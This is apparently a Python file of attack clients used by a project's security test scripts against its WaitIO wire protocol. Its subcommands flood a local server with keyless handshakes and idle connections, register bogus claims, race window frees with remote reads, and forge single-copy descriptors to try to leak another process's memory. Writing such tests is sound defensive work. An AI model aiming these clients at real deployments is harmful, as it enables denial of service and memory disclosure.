"""Attack clients of the security tests (tests/scripts/sec_*.sh): each speaks as much of the
WaitIO wire protocol (docs/protocol.md) as its attack needs, in protocol version 4 (or 2, 3: the
same handshake; 3 adds the short EAGER header, which Conn.recv reads, 4 the table entries'
extension, empty here) or, to show
an attack against a build of the old protocol, version 1 (--proto 1; waitio-info prints a build's
version). Subcommands:

  hello-storm   keyless HELLOs claiming every process id, at every given port, for S seconds
  idle-flood    N idle connections (no byte sent) held open for S seconds, reopened when closed
  hello-flood   N keyless HELLOs at one port (the start-up master), as fast as it takes them
  register-claim  a key holder that sends the start-up master REGISTER frames claiming huge PBs
                (--claim PB,FIRST,SIZE: one entry, its own connection) or a PB registered
                sparsely (--sparse PB,SIZE,STRIDE: one entry every STRIDE ranks, one connection)
  rma-free      a key holder in a window (PB 1) whose GET streams while the target frees it
  rma-flood     the same, flooding the target with calls or GETs whose replies it never reads
  forge-cma     a key holder that joins a job as PB 1 and sends single-copy descriptors naming
                another process's memory (the receiver must never deliver those bytes); it
                offers the shm transport (a local socket) beside tcp

Each prints what it did as "key: value" lines that the test scripts check."""
import argparse
import ctypes
import hashlib
import hmac
import os
import select
import socket
import struct
import sys
import time

MAGIC = 0x4F495457
HDR = struct.Struct("<IBBHIIIIQQQQ")  # magic, version, type, flags, seq, credit, gid, src, tag, len, id, aux
SHORT = struct.Struct("<BBHIIIII")  # the short EAGER header (protocol 3): mark, 0, len, seq, credit, gid, src, tag
SHORT_MARK = 0xA7
HELLO, HELLO_ACK, AUTH, EAGER, RTS, CTS, DATA, CREDIT, BYE = 1, 2, 3, 4, 5, 6, 7, 8, 9
REGISTER, TABLE, ERROR, IDLE_CLOSE, SHM_OFFER, SHM_READY, ACCEPT = 10, 11, 12, 13, 14, 15, 16
TABLE_REF = 19  # the table is in a shared-memory segment of this host (frame.h)
FF_REJECT, FF_TRUNC, FF_NACK, FF_SHM, FF_CMA = 0x1, 0x2, 0x10, 0x20, 0x40
ID_BOOT = 0xFFFFFFFF
TP_TCP, TP_SHM = 0x1, 0x2  # transports of a table entry


def hdr(ftype, length=0, seq=0, flags=0, credit=0, gid=0, src=0, tag=0, id_=0, aux=0, proto=3):
    return HDR.pack(MAGIC, proto, ftype, flags, seq, credit, gid, src, tag, length, id_, aux)


def hello_payload(claim, target, limit=1 << 20, credit=16 << 20, nonce=None):
    return (nonce or os.urandom(32)) + struct.pack("<IIII", claim, target, limit, credit)


def keyless_hello(claim, target, proto):
    body = hello_payload(claim, target)
    return hdr(HELLO, len(body), src=claim, proto=proto) + body


def mac(key, label, msg):
    return hmac.new(key, label + msg, hashlib.sha256).digest()


def host_id():
    """The host id WaitIO puts into table entries: SHA-256 of boot id and host name."""
    with open("/proc/sys/kernel/random/boot_id", "rb") as f:
        ident = f.read(127)
    ident += socket.gethostname().encode()
    return struct.unpack("<Q", hashlib.sha256(ident).digest()[:8])[0]


class Conn:
    """One framed, authenticated connection, connector or acceptor side."""

    def __init__(self, sock, key, proto):
        self.s, self.key, self.proto = sock, key, proto
        self.tx = self.rx = 0
        self.transcript = b""

    def send(self, ftype, payload=b"", **kw):
        self.s.sendall(hdr(ftype, len(payload), seq=self.tx, proto=self.proto, **kw) + payload)
        self.tx += 1

    def recv_exact(self, n):
        out = b""
        while len(out) < n:
            chunk = self.s.recv(n - len(out))
            if not chunk:
                raise ConnectionError("closed by the peer")
            out += chunk
        return out

    def recv(self):
        first = self.recv_exact(1)
        if first[0] == SHORT_MARK:
            (_mark, _ver, length, seq, _credit, _gid, _src, _tag) = SHORT.unpack(first + self.recv_exact(SHORT.size - 1))
            ftype, flags, id_, aux = EAGER, 0, 0, 0
        else:
            f = HDR.unpack(first + self.recv_exact(HDR.size - 1))
            (_magic, _ver, ftype, flags, seq, _credit, _gid, _src, _tag, length, id_, aux) = f
        if seq != self.rx:
            raise ConnectionError(f"sequence {seq}, expected {self.rx}")
        self.rx += 1
        return ftype, flags, id_, aux, self.recv_exact(length)

    def recv_table(self):
        """The master's answer to REGISTER: (frame type, table). A TABLE_REF (le64 length,
        SHA-256, segment name) is read from /dev/shm and checked as the library does."""
        ftype, _, _, _, payload = self.recv()
        if ftype != TABLE_REF:
            return ftype, payload
        (length,) = struct.unpack_from("<Q", payload)
        digest, name = payload[8:40], payload[40:].decode()
        with open("/dev/shm/" + name.lstrip("/"), "rb") as f:
            table = f.read(length)
        assert len(table) == length and hashlib.sha256(table).digest() == digest, "segment digest"
        return TABLE, table

    # --- handshake, connector side (registration with the master)
    def connect_handshake(self, my_id, target):
        nonce_c = os.urandom(32)
        body = hello_payload(my_id, target, nonce=nonce_c)
        self.send(HELLO, body, src=my_id)
        ftype, flags, _, _, p = self.recv()
        assert ftype == HELLO_ACK, ftype
        nonce_a, proof_a, fields = p[:32], p[32:64], p[64:76]
        if self.proto == 1:
            ids = struct.pack("<II", my_id, target)
            self.send(AUTH, mac(self.key, b"wio-con\0", nonce_c + nonce_a + ids))
            return
        self.transcript = struct.pack("<H", 0) + body + nonce_a + fields
        if not hmac.compare_digest(proof_a, mac(self.key, b"wio-acc\0", self.transcript)):
            raise ConnectionError("the acceptor failed authentication")
        self.send(AUTH, mac(self.key, b"wio-con\0", self.transcript))
        ftype, flags, _, _, _ = self.recv()
        if ftype != ACCEPT or flags & (FF_REJECT | FF_NACK):
            raise ConnectionError(f"not accepted: type {ftype} flags {flags:#x}")

    # --- handshake, acceptor side (a job process connecting to us)
    def accept_handshake(self, my_id):
        ftype, hflags, _, _, p = self.recv()
        assert ftype == HELLO and len(p) == 48, ftype
        nonce_c = p[:32]
        claim = struct.unpack("<I", p[32:36])[0]
        nonce_a = os.urandom(32)
        fields = struct.pack("<III", my_id, 1 << 20, 16 << 20)
        if self.proto == 1:
            ids = struct.pack("<II", claim, my_id)
            proof_a = mac(self.key, b"wio-acc\0", nonce_c + nonce_a + ids)
            self.send(HELLO_ACK, nonce_a + proof_a + fields, src=my_id)
            ftype, _, _, _, _ = self.recv()
            assert ftype == AUTH
            return claim
        self.transcript = struct.pack("<H", hflags) + p + nonce_a + fields
        self.send(HELLO_ACK, nonce_a + mac(self.key, b"wio-acc\0", self.transcript) + fields, src=my_id)
        ftype, _, _, _, proof_c = self.recv()
        assert ftype == AUTH
        if not hmac.compare_digest(proof_c, mac(self.key, b"wio-con\0", self.transcript)):
            raise ConnectionError("the connector failed authentication")
        self.send(ACCEPT)  # taken
        return claim

    def cma_token(self):
        """The connection's single-copy probe token (protocol 2 and later): both ends derive it."""
        return struct.unpack("<Q", mac(self.key, b"wio-cma\0", self.transcript)[:8])[0]


ENTRY_PROTO = 4  # main sets it from --proto


def entry_len():
    """A table entry's fixed part: 40 bytes in protocols 2 and 3, 44 from 4 on (then extension)."""
    return 44 if ENTRY_PROTO >= 4 else 40


def entry(port, ip="127.0.0.1", hid=0, transports=TP_TCP, token=0):
    """A table entry (protocol 2 and later): family, flags, port, address, host id, transports,
    shm token (src/boot/boot.c); from protocol 4 on an extension length (0 here) and 2 reserved
    zero bytes."""
    return struct.pack("<BBH16sQB3xQ", 4, 0, port, socket.inet_aton(ip) + bytes(12), hid,
                       transports, token) + bytes(entry_len() - 40)


def entry_v1(port, ip="127.0.0.1", hid=0):
    """A table entry of protocol 1 (32 bytes)."""
    return struct.pack("<BBH16sQ4x", 4, 0, port, socket.inet_aton(ip) + bytes(12), hid)


# ---------------------------------------------------------------------------------------------
def hello_storm(a):
    """Keyless HELLO from every claimed id to every target id at every port, over and over: a
    round's connections all send at once, then each is read for a moment (a HELLO_ACK shows the
    target was right) and closed, since we cannot prove the key."""
    sent = answered = rounds = 0
    end = time.monotonic() + a.secs
    while time.monotonic() < end:
        socks = []
        for port in a.ports:
            for target in range(a.ids):
                for claim in range(a.ids):
                    if claim == target:
                        continue
                    try:
                        s = socket.create_connection(("127.0.0.1", port), timeout=2)
                        s.sendall(keyless_hello(claim, target, a.proto))
                        sent += 1
                        socks.append(s)
                    except OSError:
                        pass
        deadline = time.monotonic() + a.pause
        for s in socks:
            s.settimeout(max(0.001, deadline - time.monotonic()))
            try:
                if s.recv(4096):
                    answered += 1
            except OSError:
                pass
            s.close()
        rounds += 1
    print(f"keyless HELLOs sent: {sent}\nanswered with HELLO_ACK: {answered}\nrounds: {rounds}",
          flush=True)


def idle_flood(a):
    """Holds `count` connections that never send a byte; reopens those the target closes."""
    socks, opened, closed_by_target, refused = [], 0, 0, 0
    end = time.monotonic() + a.secs

    def open_one():
        nonlocal opened, refused
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", a.port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            s.close()
            return
        socks.append(s)
        opened += 1

    for _ in range(a.count):
        open_one()
    print(f"opened: {opened}", flush=True)
    while time.monotonic() < end:
        poller = select.poll()  # select() cannot watch descriptors above 1023
        byfd = {s.fileno(): s for s in socks}
        for fd in byfd:
            poller.register(fd, select.POLLIN)
        for fd, _ev in poller.poll(200):
            s = byfd[fd]
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed_by_target += 1
                socks.remove(s)
                s.close()
        while len(socks) < a.count and time.monotonic() < end:
            before = len(socks)
            open_one()
            if len(socks) == before:
                break
    for s in socks:
        s.close()
    print(f"idle connections opened: {opened}\nclosed by the target: {closed_by_target}\n"
          f"refused: {refused}", flush=True)


def hello_flood(a):
    """`count` keyless HELLOs at the master, `parallel` connections at a time: each sends its
    HELLO, waits for the answer (so the target has surely processed it), then is reset."""
    linger = struct.pack("ii", 1, 0)  # close with RST: no TIME_WAIT left on our side
    body = keyless_hello(ID_BOOT, ID_BOOT, a.proto)
    started = sent = answered = failed = 0
    state = {}  # fd -> [socket, phase (0 connecting, 1 sent), deadline]
    t0 = time.monotonic()
    while started < a.count or state:
        while len(state) < a.parallel and started < a.count:
            started += 1
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", a.port))
            except BlockingIOError:
                pass
            except OSError:
                failed += 1
                s.close()
                continue
            state[s.fileno()] = [s, 0, time.monotonic() + 5]
        poller = select.poll()
        for fd, (_s, phase, _d) in state.items():
            poller.register(fd, select.POLLOUT if phase == 0 else select.POLLIN)
        now = time.monotonic()
        for fd, ev in poller.poll(200):
            s, phase, _d = state[fd]
            if phase == 0:
                try:
                    s.send(body)
                    sent += 1
                    state[fd][1] = 1
                    continue
                except OSError:
                    failed += 1
            else:
                try:
                    answered += len(s.recv(4096)) > 0
                except OSError:
                    pass
            del state[fd]
            s.close()
        for fd in [fd for fd, (_s, _p, d) in state.items() if d < now]:
            state.pop(fd)[0].close()
            failed += 1
    print(f"keyless HELLOs sent: {sent}\nanswered: {answered}\nfailed connects: {failed}\n"
          f"seconds: {time.monotonic() - t0:.1f}", flush=True)


# ---------------------------------------------------------------------------------------------
def shm_listener(token):
    """A local socket where the shm transport of a process with our effective uid looks for
    the process whose table entry carries `token` (src/transport/shm.c). None if we cannot."""
    d = f"/dev/shm/waitio-{os.geteuid()}"
    try:
        os.mkdir(d, 0o700)
    except FileExistsError:
        pass
    except OSError:
        return None, None
    path = f"{d}/{token:016x}.sock"
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        u.bind(path)
    except OSError:
        u.close()
        return None, None
    u.listen(4)
    return u, path


def forge_cma(a):
    """Joins the job as PB 1 (process 1) with the instance key, accepts the victim's connection,
    and sends it rendezvous requests whose single-copy descriptors name (1) our own buffer,
    (2) the secret's address (protocol 1: the secret process's pid and address).
    The victim echoes every message; we report which echoes contain the secret.

    Protocol 2 reads in place only through the shm transport, from the process at the other end
    of its local socket: we offer shm (a socket in /dev/shm/waitio-<our euid>) and tcp, and
    report which one the victim connected over. Another user's victim never finds our socket
    (its directory is its own) and falls back to tcp, which never reads in place."""
    key = os.environ["WAITIO_KEY"].encode()
    me = os.getpid()
    size = a.size
    mine = ctypes.create_string_buffer(b"M" * size, size)
    probe = ctypes.create_string_buffer(16)
    lsn = socket.socket()
    lsn.bind(("127.0.0.1", 0))
    lsn.listen(4)
    port = lsn.getsockname()[1]
    token = struct.unpack("<Q", os.urandom(8))[0] | 1
    local, path = shm_listener(token) if a.proto >= 2 else (None, None)
    transports = TP_TCP | (TP_SHM if local else 0)
    # register with the master: npb 2, PB 1, rank 0 of 1
    m = Conn(socket.create_connection(("127.0.0.1", a.master_port), timeout=10), key, a.proto)
    m.connect_handshake(ID_BOOT, ID_BOOT)
    if a.proto == 1:
        m.send(REGISTER, struct.pack("<IIII", 2, 1, 0, 1) + entry_v1(port, hid=host_id()))
    else:
        m.send(REGISTER, struct.pack("<IIII", 2, 1, 0, 1) +
               entry(port, hid=host_id(), transports=transports, token=token))
    ftype, _ = m.recv_table()
    assert ftype == TABLE, f"master answered {ftype}"
    m.s.close()
    print("registered as process 1", flush=True)
    ready, _, _ = select.select([x for x in (lsn, local) if x], [], [], 20)
    if not ready:
        raise SystemExit("the victim never connected")
    over = "shm" if ready[0] is local else "tcp"
    s, _ = ready[0].accept()
    if path:
        os.unlink(path)
    s.settimeout(20)
    c = Conn(s, key, a.proto)
    victim = c.accept_handshake(1)
    if over == "shm":
        c.send(SHM_OFFER)  # no segment: the frames stay on the local socket
    print(f"process {victim} connected over {over}; authenticated", flush=True)
    token = c.cma_token() if a.proto >= 2 else 0x5EC0DE5EC0DE5EC0
    probe.raw = struct.pack("<Q", token) + bytes(8)
    paddr = ctypes.addressof(probe)

    def desc(pid, addr):
        if a.proto == 1:
            return struct.pack("<QQQQ", pid, addr, paddr, token)
        return struct.pack("<QQ", addr, size)

    cases = [("own buffer", desc(me, ctypes.addressof(mine))),
             ("secret", desc(a.secret_pid, a.secret_addr))]
    leaked = 0
    for i, (name, d) in enumerate(cases):
        c.send(RTS, d, flags=FF_CMA, gid=a.gid, src=1, tag=i, id_=1000 + i, aux=size)
        echo = None
        single = None
        while echo is None:
            ftype, flags, id_, aux, p = c.recv()
            if ftype == CTS:
                single = bool(flags & FF_CMA)
                if not single:  # the copy path: we send our own bytes
                    c.send(DATA, b"D" * size, id_=aux, aux=0)
            elif ftype == EAGER:
                echo = p
            elif ftype == BYE:
                raise SystemExit("the victim finalized early")
        has_secret = a.secret_marker.encode() in echo
        leaked += has_secret
        print(f"case {name}: read in place: {'yes' if single else 'no'}; echo "
              f"{'CONTAINS THE SECRET' if has_secret else 'clean'} "
              f"({echo[:4]!r}...)", flush=True)
    print(f"secret echoed back: {leaked} of {len(cases) - 1}", flush=True)
    try:
        while True:
            ftype, _, _, _, _ = c.recv()
            if ftype == BYE:
                break
    except (ConnectionError, socket.timeout):
        pass
    c.send(BYE)
    s.close()


def register_claim(a):
    """Key holder at the master: each claim is a REGISTER of one entry on a connection of its own;
    the master's answer (an ERROR when it refuses; nothing while it waits for the rest) is read
    for --wait seconds. Prints "claim PB,FIRST,SIZE: refused: TEXT" or "...: no answer"."""
    key = os.environ["WAITIO_KEY"].encode()
    ent = entry(4242, hid=host_id())
    conns, refused = [], 0

    def connect():
        c = Conn(socket.create_connection(("127.0.0.1", a.master_port), timeout=10), key, a.proto)
        c.connect_handshake(ID_BOOT, ID_BOOT)
        conns.append(c)
        return c

    def answer(c, label):
        nonlocal refused
        c.s.settimeout(a.wait)
        try:
            ftype, _, _, _, p = c.recv()
        except (socket.timeout, ConnectionError) as e:
            print(f"{label}: no answer ({e or 'timeout'})", flush=True)
            return
        if ftype == ERROR:
            refused += 1
            print(f"{label}: refused: {p.decode(errors='replace')}", flush=True)
        else:
            print(f"{label}: answered with frame type {ftype}", flush=True)

    for spec in a.claim:
        pb, first, size = (int(x) for x in spec.split(","))
        c = connect()
        c.send(REGISTER, struct.pack("<IIII", a.npb, pb, first, size) + ent)
        answer(c, f"claim {spec}")
    for spec in a.sparse:
        pb, size, stride = (int(x) for x in spec.split(","))
        c = connect()
        n = 0
        for first in range(0, size, stride):
            c.send(REGISTER, struct.pack("<IIII", a.npb, pb, first, size) + ent)
            n += 1
        print(f"sparse {spec}: {n} REGISTER frames of one entry sent", flush=True)
        answer(c, f"sparse {spec}")
    print(f"refused: {refused}", flush=True)
    time.sleep(a.hold)
    for c in conns:
        c.s.close()


# ---------------------------------------------------------------------------------------------
# One-sided attacks (sec_rma_free.sh, sec_rma_flood.sh): a key holder joins as PB 1 (process 1),
# takes part in the target's window creation on group 5 ({PB 0, PB 1}, a two-process allgather:
# it sends back the target's own record), then speaks RMA frames (src/rma/am.c).
RMA, RMA_REPLY = 17, 18
RMA_PUT, RMA_GET, RMA_FLUSH, RMA_RPC = 1, 2, 4, 5
CTX_COLL = 0x80000000
TCP_STATES = {1: "open", 7: "closed (reset)", 8: "closed by the target", 11: "closed by the target"}


def rma_recv(c):
    """The next frame of c as a dict (type, flags, gid, src, tag, id, aux, payload)."""
    first = c.recv_exact(1)
    if first[0] == SHORT_MARK:
        (_m, _v, length, seq, _cr, gid, src, tag) = SHORT.unpack(first + c.recv_exact(SHORT.size - 1))
        ftype, flags, id_, aux = EAGER, 0, 0, 0
    else:
        (_mg, _v, ftype, flags, seq, _cr, gid, src, tag, length, id_, aux) = \
            HDR.unpack(first + c.recv_exact(HDR.size - 1))
    if seq != c.rx:
        raise ConnectionError(f"sequence {seq}, expected {c.rx}")
    c.rx += 1
    return dict(type=ftype, flags=flags, gid=gid, src=src, tag=tag, id=id_, aux=aux,
                payload=c.recv_exact(length))


def rma_join(a, ring3=False):
    """Registers as PB 1 of a.npb (one process, id 1), accepts the target's connection and answers
    its window creation on group 5: {PB 0, PB 1} (we echo the target's record), or with ring3 all
    three PBs ranked PB 2, PB 0, PB 1 (a ring allgather: we pass the target's record on to PB 2,
    process 2, whose connection we open). Returns (conn, window id, window size, collective tag,
    connection to process 2 or None)."""
    key = os.environ["WAITIO_KEY"].encode()
    lsn = socket.socket()
    lsn.bind(("127.0.0.1", 0))
    lsn.listen(4)
    m = Conn(socket.create_connection(("127.0.0.1", a.master_port), timeout=10), key, a.proto)
    m.connect_handshake(ID_BOOT, ID_BOOT)
    m.send(REGISTER, struct.pack("<IIII", a.npb, 1, 0, 1) + entry(lsn.getsockname()[1], hid=host_id()))
    ftype, table = m.recv_table()
    assert ftype == TABLE, f"master answered {ftype}"
    m.s.close()
    right = None
    if ring3:  # entries after the PB count and sizes (no extensions here); the port at byte 2
        port = struct.unpack_from("<H", table, 4 + 4 * a.npb + entry_len() * 2 + 2)[0]
        right = Conn(socket.create_connection(("127.0.0.1", port), timeout=10), key, a.proto)
        right.connect_handshake(1, 2)
    lsn.settimeout(30)
    while True:  # the target's connection (process 0); another's is left alone
        s, _ = lsn.accept()
        s.settimeout(30)
        c = Conn(s, key, a.proto)
        claim = c.accept_handshake(1)
        print(f"accepted a connection from process {claim}", flush=True)
        if claim == 0:
            break
    while True:  # the allgather of the window's records: ours is a copy of the target's
        f = rma_recv(c)
        if f["type"] == EAGER and f["gid"] == 5 | CTX_COLL:
            break
    rec = f["payload"]
    if ring3:  # step 0: "our" block (a copy of the target's); step 1: the target's block
        right.send(EAGER, rec, gid=f["gid"], src=2, tag=f["tag"])
        while rma_recv(c)["type"] != EAGER:
            pass
        right.send(EAGER, rec, gid=f["gid"], src=2, tag=f["tag"])
    else:
        c.send(EAGER, rec, gid=f["gid"], src=1, tag=f["tag"])
    wid, size = struct.unpack_from("<I", rec, 0)[0], struct.unpack_from("<Q", rec, 16)[0]
    print(f"joined the window: id {wid:#x}, {size} bytes at the target", flush=True)
    return c, wid, size, f["tag"], right


def rma_free(a):
    """The target frees the window while our GET of all of it and a PUT of 1 MiB into it are under
    way: we start the GET, send the PUT's header and half its payload, take our part in the free's
    barrier at once (on the root's connection), and read the reply only after --delay seconds;
    then the rest of the PUT follows. Every byte of the reply must be the window's ('A'), never
    what the target wrote after its free returned ('Z'); the target checks that the PUT's second
    half did not land after its free. Then a GET and a PUT on the freed window must be answered
    with errors."""
    c, wid, size, tag, root = rma_join(a, ring3=True)
    length = min(size, 1 << 30)
    c.send(RMA, gid=wid, tag=RMA_GET, src=length, id_=0x1001, aux=0)
    half = 1 << 19
    c.s.sendall(hdr(RMA, 2 * half, seq=c.tx, gid=wid, tag=RMA_PUT, aux=0, proto=c.proto) + b"P" * half)
    c.tx += 1
    root.send(EAGER, gid=5 | CTX_COLL, src=2, tag=tag + 1)  # barrier: our message to the root
    time.sleep(a.delay)
    got, late = 0, 0
    try:
        while got < length:
            f = rma_recv(c)
            if f["type"] == RMA_REPLY and f["id"] == 0x1001:
                if f["src"]:
                    print(f"the GET failed: error {f['src']}", flush=True)
                    break
                got += len(f["payload"])
                late += f["payload"].count(b"Z")
    except (ConnectionError, OSError) as e:
        print(f"connection closed by the target: {e}", flush=True)
        c = None
    print(f"reply bytes: {got} of {length}\nreply bytes written after the free: {late}", flush=True)
    root.s.close()  # the root's part of the barrier is long over
    if c is None:
        return
    c.s.sendall(b"P" * half)  # the PUT's second half

    def answer(rid):
        while True:
            f = rma_recv(c)
            if f["type"] == RMA_REPLY and f["id"] == rid:
                return f["src"]

    c.send(RMA, gid=wid, tag=RMA_GET, src=4096, id_=0x1002, aux=0)
    print(f"get on the freed window: error {answer(0x1002)}", flush=True)
    c.send(RMA, b"P" * 4096, gid=wid, tag=RMA_PUT, aux=0)
    c.send(RMA, gid=wid, tag=RMA_FLUSH, id_=0x1003)
    print(f"put on the freed window: error {answer(0x1003)}", flush=True)
    c.send(EAGER, b"done", gid=5, src=2, tag=99)
    try:
        while rma_recv(c)["type"] != BYE:
            pass
        c.send(BYE)
    except (ConnectionError, socket.timeout, OSError):
        pass
    c.s.close()


def tcp_state(s):
    try:
        return TCP_STATES.get(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0], "other")
    except OSError:
        return "closed"


def rma_flood(a):
    """--count zero-argument calls (--kind rpc) or GETs of the whole window (--kind get), sent as
    fast as the target takes them, never reading a reply, from --pause seconds after joining (the
    test measures the target before); then holds the connection --hold seconds (the test measures
    the target meanwhile) and reports whether the target dropped it."""
    c, wid, size, _tag, _ = rma_join(a)
    time.sleep(a.pause)
    length = min(size, 1 << 30)
    sent, batch, t0 = 0, [], time.monotonic()
    try:
        for k in range(a.count):
            if a.kind == "rpc":
                batch.append(hdr(RMA, seq=c.tx, gid=5, src=0x1234, tag=RMA_RPC, id_=k + 1, proto=c.proto))
            else:
                batch.append(hdr(RMA, seq=c.tx, gid=wid, src=length, tag=RMA_GET, id_=k + 1, proto=c.proto))
            c.tx += 1
            if len(batch) == 4096 or k == a.count - 1:
                c.s.sendall(b"".join(batch))
                sent += len(batch)
                batch = []
    except (OSError, socket.timeout) as e:
        print(f"sending stopped: {e}", flush=True)
    print(f"sent {sent} {a.kind} frames in {time.monotonic() - t0:.1f} s", flush=True)
    time.sleep(a.hold)
    print(f"connection: {tcp_state(c.s)}", flush=True)
    c.s.close()


RMA_CMDS = {"rma-free": rma_free, "rma-flood": rma_flood}


def add_rma_parsers(sub):
    for name in RMA_CMDS:
        p = sub.add_parser(name)
        p.add_argument("--master-port", type=int, required=True)
        p.add_argument("--npb", type=int, default=3 if name == "rma-free" else 2)
        if name == "rma-free":
            p.add_argument("--delay", type=float, default=1.5)
        else:
            p.add_argument("--kind", choices=("rpc", "get"), required=True)
            p.add_argument("--count", type=int, required=True)
            p.add_argument("--hold", type=float, default=3.0)
            p.add_argument("--pause", type=float, default=2.0)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--proto", type=int, default=4, choices=(1, 2, 3, 4))
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("hello-storm")
    p.add_argument("--ids", type=int, required=True)
    p.add_argument("--secs", type=float, required=True)
    p.add_argument("--pause", type=float, default=0.1)
    p.add_argument("ports", type=int, nargs="+")
    p = sub.add_parser("idle-flood")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--secs", type=float, required=True)
    p = sub.add_parser("hello-flood")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--parallel", type=int, default=64)
    p = sub.add_parser("register-claim")
    p.add_argument("--master-port", type=int, required=True)
    p.add_argument("--npb", type=int, required=True)
    p.add_argument("--claim", action="append", default=[], metavar="PB,FIRST,SIZE")
    p.add_argument("--sparse", action="append", default=[], metavar="PB,SIZE,STRIDE")
    p.add_argument("--wait", type=float, default=2.0, help="seconds to wait for each answer")
    p.add_argument("--hold", type=float, default=0.0, help="seconds to keep the connections open")
    p = sub.add_parser("forge-cma")
    p.add_argument("--master-port", type=int, required=True)
    p.add_argument("--secret-pid", type=int, required=True)
    p.add_argument("--secret-addr", type=lambda x: int(x, 0), required=True)
    p.add_argument("--secret-marker", required=True)
    p.add_argument("--size", type=int, default=4096)
    p.add_argument("--gid", type=int, default=5)
    add_rma_parsers(sub)
    a = ap.parse_args()
    global ENTRY_PROTO
    ENTRY_PROTO = a.proto
    if a.cmd in RMA_CMDS:
        return RMA_CMDS[a.cmd](a)
    {"hello-storm": hello_storm, "idle-flood": idle_flood, "hello-flood": hello_flood,
     "forge-cma": forge_cma, "register-claim": register_claim}[a.cmd](a)


if __name__ == "__main__":
    main()
